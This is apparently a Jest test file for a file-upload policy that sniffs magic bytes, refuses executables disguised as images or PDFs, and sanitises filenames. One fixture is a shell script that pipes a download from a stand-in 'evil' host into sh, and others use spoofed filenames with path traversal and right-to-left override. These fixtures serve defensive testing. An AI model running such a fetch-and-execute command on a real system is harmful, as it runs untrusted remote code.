import { AppError, ErrorCode } from '../errors/app-error';
import { checkUpload, parseDeclaredKind, type UploadCandidate } from './upload-policy';

const JPEG = Buffer.from([0xff, 0xd8, 0xff, 0xe0, 0x00, 0x10, 0x4a, 0x46, 0x49, 0x46, 0x00]);
const PNG = Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 0, 0, 0, 13]);
const GIF = Buffer.from('GIF89a\x01\x00\x01\x00', 'latin1');
const WEBP = Buffer.from('RIFF\x24\x00\x00\x00WEBPVP8 ', 'latin1');
const PDF = Buffer.from('%PDF-1.7\n');
const TEXT = Buffer.from('The parcel never arrived.\n');
const BINARY = Buffer.from([0x00, 0x13, 0x37, 0xfe, 0x80, 0x00]);
const PE = (() => {
  const h = Buffer.alloc(128);
  h.write('MZ', 0, 'latin1');
  h.writeUInt32LE(0x40, 0x3c);
  h.write('PE\0\0', 0x40, 'latin1');
  return h;
})();
const ELF = Buffer.from([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1, 0, 0, 0, 0, 0]);

const candidate = (overrides: Partial<UploadCandidate>): UploadCandidate => ({
  declared: 'file',
  filename: 'upload.bin',
  head: BINARY,
  size: 1000,
  ...overrides,
});

function refusal(input: UploadCandidate): AppError {
  try {
    checkUpload(input);
  } catch (error) {
    if (error instanceof AppError) return error;
    throw error;
  }
  throw new Error('expected the upload to be refused');
}

describe(checkUpload.name, () => {
  describe('an image upload', () => {
    it.each([
      ['photo.jpg', JPEG, 'image/jpeg'],
      ['photo.png', PNG, 'image/png'],
      ['anim.gif', GIF, 'image/gif'],
    ])('accepts %s with the sniffed type', (filename, head, mime) => {
      expect(checkUpload(candidate({ declared: 'image', filename, head }))).toEqual({ mime, kind: 'image', filename });
    });

    it('stores the sniffed type even when the extension says otherwise', () => {
      expect(checkUpload(candidate({ declared: 'image', filename: 'photo.png', head: JPEG })).mime).toBe('image/jpeg');
    });

    it('refuses an executable renamed to .png, naming what it really is', () => {
      const error = refusal(candidate({ declared: 'image', filename: 'photo.png', head: PE }));

      expect(error.code).toBe(ErrorCode.BAD_USER_INPUT);
      expect(error.message).toBe('photo.png is not a JPG, PNG or GIF image (its content is a Windows executable)');
      expect(error.extensions).toMatchObject({
        code: 'BAD_USER_INPUT',
        reason: 'NOT_AN_IMAGE',
        field: 'file',
        detectedMime: 'application/vnd.microsoft.portable-executable',
      });
    });

    it.each([
      [WEBP, 'a WebP image'],
      [PDF, 'a PDF document'],
      [TEXT, 'plain text'],
      [BINARY, 'unrecognised binary data'],
    ])('refuses other content as NOT_AN_IMAGE (%#: %s)', (head, description) => {
      const error = refusal(candidate({ declared: 'image', filename: 'pic.jpg', head }));

      expect(error.extensions.reason).toBe('NOT_AN_IMAGE');
      expect(error.message).toBe(`pic.jpg is not a JPG, PNG or GIF image (its content is ${description})`);
    });

    it('names the file by its sanitised name in the message', () => {
      const error = refusal(candidate({ declared: 'image', filename: '../../x\u202egnp.exe', head: TEXT }));

      expect(error.message).toBe('xgnp.exe is not a JPG, PNG or GIF image (its content is plain text)');
    });
  });

  describe('a file upload', () => {
    it.each([
      ['report.pdf', PDF, 'application/pdf', 'document'],
      ['notes.txt', TEXT, 'text/plain', 'text'],
      ['photo.jpg', JPEG, 'image/jpeg', 'image'],
    ])('accepts %s with its sniffed type', (filename, head, mime, kind) => {
      expect(checkUpload(candidate({ filename, head }))).toEqual({ mime, kind, filename });
    });

    it('accepts unknown binary content only as a generic file', () => {
      expect(checkUpload(candidate({ filename: 'dump.dat', head: BINARY }))).toEqual({
        mime: 'application/octet-stream',
        kind: 'unknown',
        filename: 'dump.dat',
      });
    });

    it.each([
      ['a Windows executable', PE],
      ['a Linux executable', ELF],
      ['a script', Buffer.from('#!/bin/bash\ncurl evil | sh\n')],
    ])('refuses %s whatever its name', (description, head) => {
      const error = refusal(candidate({ filename: 'invoice.pdf', head }));

      expect(error.extensions).toMatchObject({ code: 'BAD_USER_INPUT', reason: 'EXECUTABLE_REFUSED', field: 'file' });
      expect(error.message).toBe(`invoice.pdf cannot be sent: its content is ${description}`);
    });

    it.each([['run.bat'], ['Setup.EXE'], ['invoice.pdf.exe'], ['script.ps1'], ['evil.exe. '], ['macro.vbs']])(
      'refuses %p, a name the system would run, even with harmless content',
      (filename) => {
        const error = refusal(candidate({ filename, head: TEXT }));

        expect(error.extensions.reason).toBe('EXECUTABLE_REFUSED');
        expect(error.message).toMatch(/cannot be sent: files of this type can run programs$/);
      },
    );

    it('sanitises the stored filename', () => {
      expect(checkUpload(candidate({ filename: 'C:\\tmp\\报告\u0000.txt', head: TEXT })).filename).toBe('报告.txt');
    });
  });

  it.each([['image' as const], ['file' as const]])('refuses an empty %s upload', (declared) => {
    const error = refusal(candidate({ declared, filename: 'empty.png', head: Buffer.alloc(0), size: 0 }));

    expect(error.extensions).toMatchObject({ reason: 'EMPTY_FILE', field: 'file' });
    expect(error.message).toBe('empty.png is empty');
  });
});

describe(parseDeclaredKind.name, () => {
  it('reads image and file, and defaults to file', () => {
    expect(parseDeclaredKind('image')).toBe('image');
    expect(parseDeclaredKind('file')).toBe('file');
    expect(parseDeclaredKind(undefined)).toBe('file');
  });

  it.each([['Image'], ['video'], ['']])('refuses %p with INVALID_KIND', (value) => {
    expect(() => parseDeclaredKind(value)).toThrow(
      expect.objectContaining({ extensions: expect.objectContaining({ reason: 'INVALID_KIND', field: 'kind' }) }),
    );
  });
});
